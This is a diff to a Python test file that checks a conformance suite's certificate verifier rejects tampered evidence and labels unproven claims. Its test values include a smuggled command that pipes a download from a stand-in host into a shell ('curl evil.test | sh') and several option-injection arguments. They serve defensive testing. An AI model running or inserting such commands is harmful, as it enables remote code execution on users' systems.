@@ -2,6 +2,7 @@
 
 import copy
 import io
+import json
 import zipfile
 from collections.abc import Callable, Iterator
 from dataclasses import replace
@@ -25,6 +26,7 @@ from certified import (
 from securesystemslib.dsse import Envelope
 from securesystemslib.signer import CryptoSigner
 
+from conformance.__main__ import main
 from conformance.assurance.certificate import (
     archive,
     bundle,
@@ -330,6 +332,8 @@ def known(**altered: object) -> Edit:
     return edited("run.json", lambda run: run.update({"known-failures": [stated | altered]}))
 
 
+NOW = datetime.now(UTC)
+
 EVIDENCE |= {
     "a certificate of TLS on a connection without it": (
         edited("run.json", lambda run: run.update(certificates=["ab" * 32])),
@@ -384,7 +388,101 @@ EVIDENCE |= {
     ),
 }
 
-NOW = datetime.now(UTC)
+
+def asks(**changes: object) -> Edit:
+    """A run that claims to have been asked for something else."""
+    return edited("run.json", lambda run: run["suite"].update(changes))
+
+
+def limited(**changes: object) -> Edit:
+    """A target with other limits."""
+    return edited("target.json", lambda target: target["limits"].update(changes))
+
+
+def misses(target: Any) -> None:
+    """A credential with as many near misses as requests would never end."""
+    target["credentials"]["primary"]["api-key"]["near-misses"] = [True] * 200_000
+
+
+def another_python(files: dict[str, bytes]) -> None:
+    """An environment in which the suite cannot run."""
+    _, _, rest = files["environment.txt"].partition(b"\n")
+    files["environment.txt"] = b"# python 2.7.18\n" + rest
+
+
+def another_package(files: dict[str, bytes]) -> None:
+    """An environment with a package that does not exist."""
+    files["environment.txt"] += b"zz-evil==1.0\n"
+
+
+EVIDENCE |= {
+    "a run of next year": (
+        run(lambda report: report.update(started=f"{NOW.year + 1}-11-01T00:00:00+00:00")),
+        "which is in the future",
+    ),
+    "a run of 150 years ahead": (
+        run(lambda report: report.update(started="2176-01-01T00:00:00+00:00")),
+        "which is in the future",
+    ),
+    "a run from before the suite": (
+        run(lambda report: report.update(started="2021-11-01T00:00:00+00:00")),
+        "run.json has no valid date of its start",
+    ),
+    "another Python": (another_python, "has Python 2.7.18, on which this package is not"),
+    "a Python that is a command": (
+        replaced("environment.txt", b"# python 3.", b"# python 3; curl evil.test | sh # "),
+        "as the version of Python",
+    ),
+    "a package that does not exist": (
+        another_package,
+        "environment.txt has zz-evil, which localization-api-conformance does not need",
+    ),
+    "a package that is there twice": (
+        replaced("environment.txt", b"httpx==", b"httpx==0.1\nhttpx=="),
+        "environment.txt has a package twice",
+    ),
+    "an invented revision": (
+        edited("revision.json", lambda revision: revision.update(revision="2031-01")),
+        "unknown revision '2031-01': this suite has none of that name",
+    ),
+    "a certificate for thousands of years": (
+        edited("revision.json", lambda revision: revision.update({"valid-days": 10**12})),
+        "revision.json is malformed: valid-days is 1000000000000",
+    ),
+    "a number of days that is none": (
+        edited("revision.json", lambda revision: revision.update({"valid-days": True})),
+        "revision.json is malformed: valid-days is True",
+    ),
+    "further keys of the target": (
+        edited("target.json", lambda target: target.update(award="gold")),
+        "target.json is not written as a run writes it, or has further keys",
+    ),
+    "further limits": (limited(award=1), "target.json is not written as a run writes it"),
+    "near misses without an end": (
+        edited("target.json", misses),
+        "target.json is malformed: a credential has more than 100 near misses",
+    ),
+    "a seed that is an option": (asks(seed="1 --pdb"), "asks for the seed '1 --pdb'"),
+    "a depth that is an option": (
+        asks(depth="--pdb"),
+        "run.json asks for the depth '--pdb', which this suite does not know",
+    ),
+    "a class that is an option": (
+        asks(classes=["read", "-p evil"]),
+        "run.json asks for the classes '-p evil', which this suite does not know",
+    ),
+    "a requirement that is an option": (
+        edited("run.json", lambda run: run.update(required=["--pdb"])),
+        "run.json asks for the required '--pdb', which this suite does not know",
+    ),
+    "a revision that is an option": (
+        asks(revision="--pdb"),
+        "run.json asks for the revision '--pdb', which this suite does not know",
+    ),
+    "rounds without an end": (asks(rounds=10**12), "run.json asks for the rounds 1000000000000"),
+    "a shard that is a text": (asks(shard="1/2"), "run.json has a shard without its number"),
+}
+
 STRANGER = CryptoSigner.generate_ed25519()
 
 
@@ -441,6 +539,82 @@ def test_altered_evidence_is_rejected(edit: Edit, expected: str, certified: Cert
 
     problems = verify(resealed(certified, files), None).problems
     assert any(expected in problem for problem in problems), problems
+
+
+YESTERDAY = (NOW - timedelta(days=1)).isoformat(timespec="seconds")
+
+UNPROVEN: dict[str, tuple[Edit, str]] = {
+    "a start of the day before": (
+        run(lambda report: report.update(started=YESTERDAY)),
+        "the start and the end: the target sends no Date headers",
+    ),
+    "a longer duration": (
+        run(lambda report: report.update(started=YESTERDAY, duration=report["duration"] + 3000)),
+        "the time after the last response, up to an hour of the duration",
+    ),
+    "other versions": (
+        replaced("environment.txt", b"anyio==", b"anyio==1"),
+        "the versions of Python and of the packages that the report does not name",
+    ),
+}
+
+
+@pytest.mark.parametrize(("edit", "expected"), UNPROVEN.values(), ids=UNPROVEN)
+def test_what_nothing_proves_stands_under_the_word_of_the_signer(
+    edit: Edit,
+    expected: str,
+    certified: Certified,
+    tmp_path: Path,
+    capsys: pytest.CaptureFixture[str],
+) -> None:
+    """The certificate says so itself, and verify prints it."""
+    files = {name: each for name, each in certified.evidence.items() if name != challenge.FILE}
+    edit(files)
+    found = issuing.sealed(Evidence(files), certified.signer)
+    assert any(expected in word for word in dsse.claims(found.envelope)["wordOfSigner"])
+    assert main(["verify", str(certified.write(tmp_path / "c.zip", found))]) == 0
+    _, _, listed = capsys.readouterr().out.partition("On the word of the signer")
+    assert expected in listed
+
+
+def test_a_shorter_list_of_what_nothing_proves_is_rejected(certified: Certified) -> None:
+    """It is a part of the statement, and so are the sizes of the files."""
+    stated = claimed(certified.honest)
+    stated["predicate"]["wordOfSigner"].pop()
+    stated["predicate"]["sizes"]["run.json"] += 1
+    forged = Bundle(certified.evidence, dsse.sign(stated, certified.signer), certified.honest.key)
+    problems = verify(forged, None).problems
+    assert [problem.partition(" is ")[0] for problem in problems] == [
+        "the statement/predicate/sizes/run.json",
+        "the statement/predicate/wordOfSigner",
+    ]
+
+
+def test_another_suite_says_what_it_has_recomputed_and_is_never_satisfied(
+    certified: Certified,
+    tmp_path: Path,
+    monkeypatch: pytest.MonkeyPatch,
+    capsys: pytest.CaptureFixture[str],
+) -> None:
+    """An emptied ledger, observations and latencies are named; nothing else is on trust."""
+    files = dict(certified.evidence)
+    emptied: dict[str, Any] = {"ledger": [], "observations": [], "latencies": {}}
+    edited("report.json", lambda report: report.update(emptied))(files)
+    for each in (certified.evidence, files):
+        found = issuing.sealed(Evidence(each), certified.signer)
+        path = certified.write(tmp_path / "c.zip", found)
+        with monkeypatch.context() as patch:
+            patch.setattr("conformance.report.source.digest", lambda: "another build")
+            assert main(["verify", "--with-current-suite", "--json", str(path)]) == 1
+            shown = json.loads(capsys.readouterr().out)
+            assert main(["verify", "--with-current-suite", str(path)]) == 1
+            said = capsys.readouterr().out
+        assert "VERIFIED" not in said
+        assert "NOT RECOMPUTED, the word of the signer: " in said
+        assert shown["verified"] is False
+        trusted = {"suite", "environment.txt", "revision.json"}
+        assert {*shown["onTrust"]} == (trusted if each is not files else {*trusted, *emptied})
+        assert {"requirements", "counts", "exchanges.jsonl"} <= {*shown["recomputed"]}
 
 
 STATEMENT: dict[str, tuple[Callable[[Any], object], str]] = {
